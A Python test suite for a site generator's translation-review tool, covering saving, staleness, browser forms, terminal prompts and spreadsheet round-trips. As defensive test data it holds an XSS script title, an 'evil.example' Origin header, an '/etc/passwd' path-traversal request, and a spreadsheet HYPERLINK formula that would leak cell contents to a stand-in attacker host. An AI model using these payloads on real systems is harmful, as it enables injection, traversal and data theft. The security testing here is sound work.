"""Promises of the review: what a person typed is written or kept in view, and nothing else changes hands."""

from __future__ import annotations

import asyncio
import html
import http.client
import io
import queue
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from digests import NOW
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from loopback import fake, serving
from openpyxl import load_workbook
from test_browser import PATIENCE, Tab, browser
from test_translation import ARTICLES, A, B, C, Desk
from tornado.websocket import websocket_connect

from generator.cli import run
from generator.config import load_config
from generator.content.ledger import block_hash, text_hash
from generator.desk import translation_review as review
from generator.markdown import UNTRANSLATED
from generator.serve import ServeOptions, serve
from generator.serve.review import PATH
from generator.translation.revise import Revision, revise
from generator.translation.standing import BlockStanding, Standing

FILE = f"{ARTICLES}/a.en.md"
WAIT = 20.0


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    with serving() as server:
        yield Desk(tmp_path, server)


def standing(desk: Desk, path: str = FILE) -> Standing:
    return review.shown(desk.folder, load_config(desk.folder)[0], NOW, path).standing


def part(desk: Desk, place: str) -> BlockStanding:
    return next(each for each in standing(desk).blocks if each.place == place)


def revision(shown: BlockStanding, text: str | None = None) -> Revision:
    seen = text_hash(shown.translation) if shown.translation else ""
    return Revision(
        place=shown.place,
        text=shown.translation if text is None else text,
        original=block_hash(shown.original),
        seen=seen,
    )


def settle(desk: Desk, *revisions: Revision, by: str = "") -> review.Settled:
    return review.settle(desk.folder, load_config(desk.folder)[0], NOW, FILE, revisions, by)


def works(desk: Desk) -> list[str]:
    return [each.path for each in review.work_list(desk.folder, load_config(desk.folder)[0], NOW)]


# What is decided ------------------------------------------------------------------------------------------------------


def test_what_is_accepted_is_a_persons_from_then_on(desk: Desk) -> None:
    """No engine changes it again, and the translation is done when all of it was seen."""
    desk.original(A, B, summary=C).translate()
    text = desk.read(FILE)
    assert works(desk) == [FILE]

    settled = settle(desk, *map(revision, standing(desk).blocks), by="S. Idris")
    assert settled.status == "edited"
    assert works(desk) == []
    about = desk.about()["translation"]
    assert isinstance(about, dict)
    assert (about["status"], about["reviewed_by"], about["engine"]) == ("edited", "S. Idris", "libretranslate")
    assert desk.states() == [("person", False), ("person", False)]
    assert desk.read(FILE).split("---\n", 2)[2] == text.split("---\n", 2)[2]

    desk.edit(A, f"{A} أمس", "a.ar").translate()
    assert desk.server.questions == []
    assert desk.states() == [("person", True), ("person", False)]


def test_what_a_person_types_stands_there_and_the_rest_waits(desk: Desk) -> None:
    desk.original(A, B).translate()
    before = desk.blocks()
    assert settle(desk, revision(part(desk, "1"), "The envoy *arrived*.")).status == "machine"
    assert desk.blocks() == [before[0], "The envoy *arrived*."]
    assert desk.states() == [("machine", False), ("person", False)]
    assert part(desk, "1").engine == "libretranslate"
    assert works(desk) == [FILE]


def test_a_stale_paragraph_shows_both_originals_and_is_fresh_again(desk: Desk) -> None:
    desk.original(A, B).translate()
    settle(desk, revision(part(desk, "0"), "Dialogue is the only way."))
    desk.edit(A, f"{A} أمس", "a.ar")
    stale = part(desk, "0")
    assert (stale.stale, stale.before, stale.original) == (True, A, f"{A} أمس")
    settle(desk, revision(stale, "Dialogue was the only way yesterday."))
    assert not part(desk, "0").stale


def test_a_stale_paragraph_that_is_accepted_answers_the_original_as_it_is_now(desk: Desk) -> None:
    """No word of it changes; it is fresh, and stale again only when the original changes once more."""
    desk.original(A, B, summary=C).translate()
    desk.edit(desk.blocks()[0], "Dialogue is the only way.")
    settle(desk, *map(revision, standing(desk).blocks[1:]))
    desk.edit(A, f"{A} أمس", "a.ar").edit("عنوان a", "عنوان آخر", "a.ar")
    settle(desk, revision(part(desk, "title"), "A title"))
    desk.edit("عنوان آخر", "عنوان ثالث", "a.ar")
    text = desk.read(FILE)

    assert settle(desk, revision(part(desk, "0")), revision(part(desk, "title"))).status == "edited"

    assert desk.read(FILE) == text.replace("status: machine", "status: edited")
    assert desk.states() == [("person", False), ("person", False)]
    assert not [each.place for each in standing(desk).blocks if review.waits(each)]
    assert works(desk) == []
    desk.edit(f"{A} أمس", A, "a.ar")
    assert desk.states()[0] == ("person", True)


def test_what_was_odd_in_a_persons_paragraph_is_no_longer_asked_once_it_is_accepted(desk: Desk) -> None:
    desk.server.translate = lambda text: f"{fake(text)} 12"
    desk.original(A, B).translate()
    desk.edit(desk.blocks()[0], "Dialogue is the only way.")
    assert part(desk, "0").flags
    settle(desk, revision(part(desk, "0")))
    assert not review.waits(part(desk, "0"))


def test_an_original_that_changed_while_it_was_reviewed_is_stale_at_once(desk: Desk) -> None:
    desk.original(A, B).translate()
    shown = part(desk, "0")
    desk.edit(A, f"{A} أمس", "a.ar")
    assert settle(desk, revision(shown, "Mine.")).status
    assert (part(desk, "0").translation, part(desk, "0").stale) == ("Mine.", True)


def test_what_was_saved_meanwhile_is_not_overwritten(desk: Desk) -> None:
    desk.original(A, B).translate()
    shown = part(desk, "0")
    desk.edit(desk.blocks()[0], "Typed in an editor.")
    text = desk.read(FILE)
    settled = settle(desk, revision(shown, "Typed in the browser."), revision(part(desk, "1"), "And this."))
    assert (settled.status, settled.changed) == ("", ("0",))
    assert desk.read(FILE) == text


def test_a_text_that_cannot_stand_there_changes_nothing(desk: Desk) -> None:
    desk.original(A, B).translate()
    text = desk.read(FILE)
    for typed in ("One.\n\nTwo.", "[^x]: a note\n\nText.", "[a]: https://example.org\n\nText"):
        settled = settle(desk, revision(part(desk, "0"), typed))
        assert settled.unfit is not None
        assert settled.unfit.place == "0"
    settled = settle(desk, revision(part(desk, "title"), "  "))
    assert settled.unfit is not None
    assert desk.read(FILE) == text


def test_gaps_are_filled_and_made(desk: Desk) -> None:
    """What a person takes out is asked for again; what a person puts in is not."""
    desk.original(A, B, C).translate()
    settle(desk, revision(part(desk, "1"), ""))
    assert desk.blocks()[1] == UNTRANSLATED
    assert desk.about()["translation"]["status"] == "partial"  # type: ignore[index]
    desk.digest.put(FILE, desk.read(FILE).replace(desk.blocks()[2], "").rstrip() + "\n")
    assert part(desk, "2").owner == "nobody"
    settle(desk, revision(part(desk, "2"), "Elections were announced."))
    assert desk.blocks()[1:] == [UNTRANSLATED, "Elections were announced."]
    desk.translate()
    assert len(desk.server.questions) == 1
    assert desk.blocks()[2] == "Elections were announced."


def test_title_summary_and_notes_are_reviewed_too(desk: Desk) -> None:
    desk.original(f"{A}[^n]", f"[^n]: {C}", summary=B).translate()
    settle(
        desk,
        revision(part(desk, "title"), "My title: “quoted”"),
        revision(part(desk, "summary"), "My\nsummary"),
        revision(part(desk, "^n"), "My note"),
    )
    about = desk.about()
    assert (about["title"], about["summary"]) == ("My title: “quoted”", "My summary")
    assert "[^n]: My note" in desk.read(FILE)
    settle(desk, revision(part(desk, "summary"), ""))
    desk.translate()
    assert desk.about()["summary"] == ""


def test_a_translation_can_begin_in_the_review(desk: Desk) -> None:
    desk.original(A, B).digest.settings('translate_to = ["en"]')
    assert works(desk) == [FILE], "what nobody has begun waits, too"
    settle(desk, revision(part(desk, "title"), "A title"), revision(part(desk, "1"), "Second."), by="S. Idris")
    assert desk.blocks() == [UNTRANSLATED, "Second."]
    about = desk.about()
    assert about["title"] == "A title"
    assert about["translation"] == {"of": "a.ar.md", "status": "partial", "translator": "S. Idris"}


def test_a_paragraph_is_known_by_its_original_when_it_has_moved(desk: Desk) -> None:
    """Somebody puts a paragraph on top while another reviews: no answer lands beside the wrong original."""
    desk.original(A, B).translate()
    first, second = part(desk, "0"), part(desk, "1")
    desk.edit(A, f"{C}\n\n{A}", "a.ar")
    assert settle(desk, revision(first, "First."), revision(second, "Second.")).status
    desk.translate()
    assert desk.blocks()[1:] == ["First.", "Second."]


@pytest.mark.parametrize("typed", ["- a list", "<!-- note", "```", "~~~\nx", "    code", "***"])
def test_markup_that_runs_on_is_told_and_nothing_is_lost(desk: Desk, typed: str) -> None:
    """A list beside a list, a comment or a fence without an end: written as it is, or refused with words."""
    desk.original(f"- {A}", B, C).translate()
    before, text = desk.blocks(), desk.read(FILE)
    settled = settle(desk, revision(part(desk, "1"), typed))
    if settled.status:
        assert desk.blocks() == [before[0], typed, before[2]]
    else:
        assert settled.unfit is not None
        assert settled.unfit.place == "1"
        assert desk.read(FILE) == text


def test_a_corrected_typo_leaves_a_translation_corrected(desk: Desk) -> None:
    """What was `edited` stays on the site, and the reviewer who went over all of it stays named."""
    desk.original(A, B).translate()
    settle(desk, *map(revision, standing(desk).blocks), by="Mona Haddad")
    desk.digest.remove(f"{ARTICLES}/a.en.tm.jsonl")
    assert settle(desk, revision(part(desk, "0"), "A comma, added."), by="Samir").status == "edited"
    assert desk.about()["translation"]["reviewed_by"] == "Mona Haddad"  # type: ignore[index]


def test_what_was_accepted_meanwhile_is_not_undone(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """An accepted paragraph changes the ledger alone: who writes at the same time sees that, too."""
    desk.original(A, B).translate()
    shown = part(desk, "0"), part(desk, "1")

    def meanwhile(*arguments: Any) -> Any:
        monkeypatch.setattr("generator.desk.translation_review.revise", revise)
        settle(desk, revision(shown[0]))
        return revise(*arguments)

    monkeypatch.setattr("generator.desk.translation_review.revise", meanwhile)
    assert settle(desk, revision(shown[1], "Typed.")).status
    assert [state for state, _ in desk.states()] == ["person", "person"]


Typed = list[tuple[int, str]]
TYPED = st.text("abc شسي*_[]()`#>-|\\\n\t1.", min_size=0, max_size=24)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(0, 2), TYPED), min_size=1, max_size=3, unique_by=lambda pair: pair[0]))
def test_only_what_was_decided_changes(
    tmp_path_factory: pytest.TempPathFactory, decided: list[tuple[int, str]]
) -> None:
    """Whatever is typed: it is there to the letter, or nothing was written; no other paragraph is touched."""
    with serving() as server:
        desk = Desk(tmp_path_factory.mktemp("d"), server)
        desk.original(A, B, C).translate()
        before, text = desk.blocks(), desk.read(FILE)
        settled = settle(desk, *(revision(part(desk, str(place)), typed) for place, typed in decided))
        if not settled.status:
            assert desk.read(FILE) == text
            return
        wanted = [*before]
        for place, typed in decided:
            wanted[place] = typed.strip("\n").rstrip() if typed.strip() else UNTRANSLATED
        assert [block.strip() for block in desk.blocks()] == [block.strip() for block in wanted]


# In the browser -------------------------------------------------------------------------------------------------------


class Page:
    """The review in the preview, as a browser asks for it."""

    def __init__(self, folder: Path, host: str) -> None:
        self.said: queue.Queue[str] = queue.Queue()
        self.stop = threading.Event()
        options = ServeOptions(project=folder, site=folder / "site", port=0, host=host, reviews=review.Reviews(folder))
        outcome = type("Outcome", (), {"findings": (), "written": ()})
        self.thread = threading.Thread(target=lambda: serve(options, outcome, self.said.put, stop=self.stop))
        self.thread.start()
        while not (line := self.said.get(timeout=WAIT)).startswith("serving "):
            pass
        self.port = int(line.split()[1].split(":")[2].split("/")[0])
        self.origin = f"http://127.0.0.1:{self.port}"

    def ask(self, path: str, fields: dict[str, str] | None = None, **headers: str) -> tuple[int, str, dict[str, str]]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=WAIT)
        try:
            if fields is None:
                connection.request("GET", path)
            else:
                given = {"Content-Type": "application/x-www-form-urlencoded", "Origin": self.origin, **headers}
                connection.request("POST", path, urlencode(fields), {k: v for k, v in given.items() if v})
            answer = connection.getresponse()
            return answer.status, answer.read().decode(), dict(answer.getheaders())
        finally:
            connection.close()

    def form(self, path: str) -> dict[str, str]:
        """Return the fields of a translation's form as a browser fills them in."""
        page = self.ask(path)[1]
        fields = {
            name: html.unescape(value)
            for name, value in re.findall(r'<input[^>]* name="([^"]*)" value="([^"]*)"', page)
        }
        for name, text in re.findall(r'<textarea name="([^"]*)"[^>]*>\n([^<]*)</textarea>', page):
            fields[name] = html.unescape(text)
        return fields


@pytest.fixture
def page(desk: Desk, request: pytest.FixtureRequest) -> Iterator[Page]:
    (desk.folder / "site").mkdir()
    shown = Page(desk.folder, getattr(request, "param", "127.0.0.1"))
    yield shown
    shown.stop.set()
    shown.thread.join(WAIT)
    assert not shown.thread.is_alive()


ADDRESS = f"{PATH}translation?path={quote(FILE, safe='')}"


def test_the_form_saves_and_goes_on(desk: Desk, page: Page) -> None:
    desk.original(A, B, title="<script>alert(1)</script>").translate()
    status, listed, headers = page.ask(PATH)
    assert (status, "<script>alert" in listed) == (200, False)
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    assert quote(FILE, safe="") in listed
    assert "livereload" not in page.ask(ADDRESS)[1], "a page that somebody types into must not reload"

    fields = page.form(ADDRESS) | {"text 0": "Typed\r\nhere.", "accept": "1", "by": "S. Idris"}
    status, _, headers = page.ask(ADDRESS, fields)
    assert status == 303
    assert "at=title" in headers["Location"], "the title waits still"
    assert desk.blocks()[0] == "Typed\nhere."
    assert desk.states() == [("person", False), ("person", False)]

    status, _, headers = page.ask(ADDRESS, page.form(ADDRESS) | {"accept": "all", "by": "S. Idris"})
    assert desk.about()["translation"]["reviewed_by"] == "S. Idris"  # type: ignore[index]
    assert "Nothing waits" in page.ask(PATH)[1]


def test_what_could_not_be_saved_is_still_on_the_page(desk: Desk, page: Page) -> None:
    desk.original(A, B).translate()
    fields = page.form(ADDRESS) | {"text 0": "Typed <here>.", "text 1": "One.\n\nTwo.", "accept": "0"}
    for change in (lambda: None, lambda: desk.edit(desk.blocks()[0], "Typed elsewhere.")):
        change()
        status, shown, _ = page.ask(ADDRESS, fields)
        assert status == 409
        assert "Typed &lt;here&gt;." in shown
        assert "One.\n\nTwo." in shown
    assert "Typed elsewhere." in shown, "both texts are in view"
    again = page.form(ADDRESS)
    assert again["text 0"] == "Typed elsewhere."


def test_typed_words_outlive_a_restart_a_broken_file_and_a_lost_paragraph(desk: Desk, page: Page) -> None:
    desk.original(A, B).translate()
    text = desk.read(FILE)
    fields = page.form(ADDRESS) | {"text 1": "Typed words.", "accept": "1"}
    status, shown, _ = page.ask(ADDRESS, fields | {"token": "من قبل"})
    assert (status, "Typed words." in shown, desk.read(FILE)) == (409, True, text)

    original = desk.read(f"{ARTICLES}/a.ar.md")
    desk.digest.put(f"{ARTICLES}/a.ar.md", original.replace("---\n", "---\ntitle: [\n", 1))
    status, shown, _ = page.ask(ADDRESS, fields)
    assert (status, "Typed words." in shown) == (409, True)

    desk.digest.put(f"{ARTICLES}/a.ar.md", original.replace(B, ""))
    desk.translate()
    status, shown, _ = page.ask(ADDRESS, fields)
    assert (status, "Typed words." in shown) == (409, True)


def test_only_its_own_forms_are_taken(desk: Desk, page: Page) -> None:
    desk.original(A).translate()
    text, fields = desk.read(FILE), page.form(ADDRESS) | {"text 0": "Mine.", "accept": ""}
    assert page.ask(ADDRESS, fields, Origin="http://evil.example")[0] == 403
    assert page.ask(ADDRESS, fields, Origin="")[0] == 403
    assert page.ask(f"{PATH}translation?path=..%2F..%2Fetc%2Fpasswd")[0] == 404
    assert page.ask(f"{PATH}translation?path={quote(f'{ARTICLES}/a.ar.md', safe='')}")[0] == 404
    assert desk.read(FILE) == text


@pytest.mark.parametrize("page", ["0.0.0.0"], indirect=True)  # noqa: S104
def test_nobody_else_on_the_network_reviews(desk: Desk, page: Page) -> None:
    desk.original(A).translate()
    assert page.ask(PATH)[0] == 403
    assert page.ask(ADDRESS)[0] == 403


# At the terminal ------------------------------------------------------------------------------------------------------


def command(desk: Desk, monkeypatch: pytest.MonkeyPatch, *arguments: str, typed: str = "") -> int:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(typed.encode())))
    return run(["review", "--project", str(desk.folder), *arguments])


def test_the_terminal_asks_for_one_part_after_the_other(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Accepted, written, put off, several lines; what is answered is kept whenever the person stops."""
    desk.original(A, B, f"- {C}\n- {A}").translate()
    first = desk.blocks()[0]
    assert command(desk, monkeypatch) == 0
    assert capsys.readouterr().out.startswith(f"{FILE}: 3 not reviewed of 3")

    path = str(desk.folder / FILE)
    assert (
        command(desk, monkeypatch, path, "--by", "S. Idris", typed="?\ns\n\n.\nOne.\n\nTwo.\n.\nThe envoy.\nq\n") == 0
    )
    told = capsys.readouterr().err
    assert "hint: take the blank lines out" in told
    assert desk.blocks()[:2] == [first, "The envoy."]
    assert desk.states()[:2] == [("person", False), ("person", False)]

    assert command(desk, monkeypatch, path, typed="A title\n.\n- Elections\n- Dialogue\n.\n") == 0
    assert "nothing is left to review" in capsys.readouterr().err
    assert desk.blocks()[2] == "- Elections\n- Dialogue"
    assert desk.about()["translation"]["status"] == "edited"  # type: ignore[index]


# Without the program --------------------------------------------------------------------------------------------------


def test_a_spreadsheet_goes_out_and_comes_back(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """What was written into it is taken, what changed meanwhile is told, and what was left alone stays a machine's."""
    desk.original(A, B, f"- {C}", f"> {B}", title='=HYPERLINK("http://evil.example"&A1,"ok")').translate()
    file = desk.folder / "work.xlsx"
    assert command(desk, monkeypatch, "--export", str(file)) == 0
    assert command(desk, monkeypatch, "--export", str(file)) == 2, "somebody's work may be in it"

    book = load_workbook(file)
    rows = {str(row[0].value).split(" ")[3]: row for row in book.active.iter_rows() if " " in str(row[0].value)}
    assert [rows[place][2].value for place in "0123"] == [A, B, f"- {C}", f"> {B}"]
    assert rows["2"][3].data_type == "s", "a list is no formula"
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row), "a title is no formula"
    rows["title"][4].value = "x"
    rows["0"][3].value = "=Dialogue is the way"
    rows["1"][3].value = "Mine."
    rows["2"][3].value = "One.\n\nTwo."
    rows["3"][3].value = None
    book.save(file)

    desk.edit(desk.blocks()[1], "Typed meanwhile.")
    assert command(desk, monkeypatch, "--import", str(file), "--by", "S. Idris") == 1
    out, err = capsys.readouterr()
    assert out.endswith(f"{FILE}: 2 parts\n")
    assert "has changed since the sheet was written" in err
    assert "this would be 2 paragraphs" in err
    assert desk.blocks()[:2] == ["=Dialogue is the way", "Typed meanwhile."]
    assert [state for state, _ in desk.states()] == ["person", "person", "machine", "machine"]

    before = desk.read(FILE)
    rows["1"][3].value = rows["2"][3].value = None
    book.save(file)
    assert command(desk, monkeypatch, "--import", str(file)) == 0, "what is in the file already is no conflict"
    assert desk.read(FILE) == before


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04broken", b"<xml/>"])
def test_a_broken_spreadsheet_is_told(desk: Desk, monkeypatch: pytest.MonkeyPatch, raw: bytes) -> None:
    desk.digest.put("work.xlsx", raw)
    assert command(desk, monkeypatch, "--import", str(desk.folder / "work.xlsx")) == 2


# A real browser -------------------------------------------------------------------------------------------------------


@pytest.mark.browser
def test_a_browser_reviews_with_keys_alone(desk: Desk, page: Page, tmp_path_factory: pytest.TempPathFactory) -> None:
    """The cursor waits in the first part; Ctrl+Enter accepts what is typed, and goes on."""
    desk.original(A, B).translate()

    async def review_it(address: str) -> list[str]:
        connection = await asyncio.wait_for(websocket_connect(address, max_message_size=2**26), PATIENCE)
        tab = Tab(connection)
        await tab.open()
        seen = await tab.look(f"{page.origin}{ADDRESS}", 1280)
        assert not seen["complaints"]
        at = [await _value(tab, "document.activeElement.name || ''")]
        for typed in ("A title", "Dialogue.", ""):
            if typed:
                await tab.ask("Runtime.evaluate", expression="document.activeElement.select()")
                await tab.ask("Input.insertText", text=typed)
            loaded = await _value(tab, "performance.timeOrigin")
            key = {"key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "modifiers": 2}
            await tab.ask("Input.dispatchKeyEvent", type="rawKeyDown", **key)
            until = time.monotonic() + PATIENCE
            while await _value(tab, "document.readyState == 'complete' && performance.timeOrigin") in {loaded, "False"}:
                assert time.monotonic() < until, "the form was not sent"
                await asyncio.sleep(0.1)
            at.append(await _value(tab, "document.activeElement.name || ''"))
        connection.close()
        while await asyncio.wait_for(connection.read_message(), PATIENCE) is not None:
            pass
        return at

    with browser(tmp_path_factory.mktemp("browser") / "profile") as address:
        assert asyncio.run(review_it(address)) == ["text title", "text 0", "text 1", ""]
    assert desk.about()["title"] == "A title"
    assert desk.blocks()[0] == "Dialogue."
    assert desk.about()["translation"]["status"] == "edited"  # type: ignore[index]


async def _value(tab: Tab, expression: str) -> str:
    """Return what an expression comes to in the page; `False` while one page makes way for another."""
    try:
        answer = await tab.ask("Runtime.evaluate", expression=expression, returnByValue=True)
    except AssertionError:
        return "False"
    return str(answer["result"]["value"])
